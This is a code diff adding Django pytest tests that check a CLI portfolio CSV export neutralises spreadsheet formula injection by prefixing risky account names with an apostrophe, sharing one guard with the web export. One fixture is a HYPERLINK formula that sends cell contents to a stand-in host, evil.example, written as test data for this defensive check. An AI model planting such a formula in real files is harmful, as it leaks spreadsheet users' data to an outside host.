@@ -14,6 +14,8 @@ from django.core.management.base import CommandError
 
 from relmap.accounts.models import FinancialPeriod
 from relmap.accounts.portfolio_services import criteria_install_defaults
+from relmap.accounts.services import account_create
+from relmap.core.csvfiles import spreadsheet_safe
 from relmap.planning.services import plan_get_or_create, plan_item_create
 
 pytestmark = pytest.mark.django_db
@@ -95,6 +97,50 @@ def test_portfolio_csv_goes_to_stdout(account: Any, run: Callable[..., Any]) -> 
     out = run("portfolio", "--format", "csv", "--user", "mateo").stdout
     assert out.splitlines()[0].startswith("id,name,owner,tier")
     assert len(out.splitlines()) == 2
+
+
+HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Click me")'
+
+
+@pytest.mark.parametrize("out_file", [False, True], ids=["stdout", "file"])
+def test_portfolio_csv_does_not_let_a_spreadsheet_run_a_name_as_a_formula(
+    owner: Any, run: Callable[..., Any], tmp_path: Path, out_file: bool
+) -> None:
+    account_create(actor=owner, name=HYPERLINK, owner=owner)
+    account_create(actor=owner, name="@SUM(1+1)", owner=owner)
+    account_create(actor=owner, name="-2+3", owner=owner)
+    account_create(actor=owner, name="Plain Ltd", owner=owner)
+    if out_file:
+        out = tmp_path / "portfolio.csv"
+        run("portfolio", "--format", "csv", "--out", str(out), "--user", "olivia")
+        text = out.read_text(encoding="utf-8")
+    else:
+        text = run("portfolio", "--format", "csv", "--user", "olivia").stdout
+    names = [r["name"] for r in csv.DictReader(io.StringIO(text))]
+    # Quoted with an apostrophe, as the web export does; other names untouched.
+    assert sorted(names) == sorted([f"'{HYPERLINK}", "'@SUM(1+1)", "'-2+3", "Plain Ltd"])
+    assert not any(line.startswith("=") or ",=" in line for line in text.splitlines())
+
+
+def test_the_cli_and_web_exports_share_one_formula_guard() -> None:
+    from relmap.accounts import views
+    from relmap.accounts.management.commands import portfolio
+
+    assert (
+        vars(portfolio)["spreadsheet_safe"] is vars(views)["spreadsheet_safe"] is spreadsheet_safe
+    )
+    for text in ("=1", "+1", "-1", "@A1", "\tx", "\rx"):
+        assert spreadsheet_safe(text) == "'" + text
+    assert spreadsheet_safe("Acme = Foods") == "Acme = Foods"
+    assert spreadsheet_safe("") == ""
+
+
+def test_portfolio_findings_say_which_effort_signals_are_checked(
+    account: Any, run: Callable[..., Any]
+) -> None:
+    text = run("portfolio", "--findings", "--user", "olivia").stdout
+    assert "Effort signals checked now: team size" in text
+    assert "Touchpoints are not yet recorded" in text
 
 
 def test_plan_writes_markdown(
